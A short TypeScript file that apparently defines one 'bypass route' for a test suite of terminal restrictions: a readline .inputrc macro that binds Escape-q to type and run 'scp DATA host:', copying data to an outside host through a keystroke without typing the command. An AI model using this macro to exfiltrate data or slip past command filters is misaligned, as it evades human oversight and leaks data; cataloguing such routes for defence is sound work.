import type { BypassRoute } from '../route.ts';

export const route: BypassRoute = {
  kind: 'terminal',
  name: "by a macro of the account's own keys",
  source: 'thought of with the keys of the line editor',
  keys: ['\u001bq'],
  files: { '.inputrc': '"\\eq": "scp DATA host:\\C-m"\n' },
};
